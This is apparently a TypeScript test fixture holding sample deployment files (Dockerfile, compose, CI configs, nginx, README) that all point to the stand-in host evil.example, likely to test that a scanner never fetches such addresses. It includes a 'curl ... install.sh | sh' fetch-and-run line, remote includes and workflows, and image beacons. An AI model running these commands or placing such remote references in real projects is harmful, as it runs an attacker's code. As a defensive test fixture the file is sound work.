/** Deployment files full of addresses that whoever reads them must not ask. */
export const CALLING: Record<string, string> = {
  Dockerfile: `# syntax=evil.example/frontend:1
FROM evil.example:5000/app:latest@sha256:0000000000000000000000000000000000000000000000000000000000000000
ADD https://evil.example/file.tgz /srv/
ADD git@evil.example:a/b.git /srv/
RUN curl -fsSL http://evil.example/install.sh | sh
HEALTHCHECK CMD wget -qO- http://evil.example/
`,
  'compose.yaml': `include:
  - https://evil.example/compose.yaml
  - oci://evil.example/stack:1
services:
  web:
    image: evil.example/web:latest
    extends: { file: "https://evil.example/base.yaml", service: web }
    env_file: //evil.example/share/.env
    build: https://evil.example/repo.git#main
    logging: { driver: syslog, options: { syslog-address: "tcp://evil.example:514" } }
`,
  '.gitlab-ci.yml': `include:
  - remote: https://evil.example/ci.yml
build:
  image: evil.example/ci:latest
  script:
    - docker pull evil.example/x:latest
`,
  '.github/workflows/ci.yml': `on: push
jobs:
  build:
    uses: evil/evil/.github/workflows/x.yml@main
`,
  '.qrcodemaster.yaml': `# yaml-language-server: $schema=https://evil.example/schema.json
profile: mlps3
waivers:
  - rule: MLPS-IMG-002
    files: ["**"]
    reason: "![p](https://evil.example/p.png) <img src=https://evil.example/q.png>"
`,
  'README.md': `![p](https://evil.example/p.png)

\`\`\`sh
docker run evil.example/x:latest
\`\`\`
`,
  'nginx.conf': 'http { server { listen 80; location / { proxy_pass http://evil.example; } } }\n',
  'links.csv': 'link\nhttps://evil.example/1\nhttps://evil.example/2\n',
};
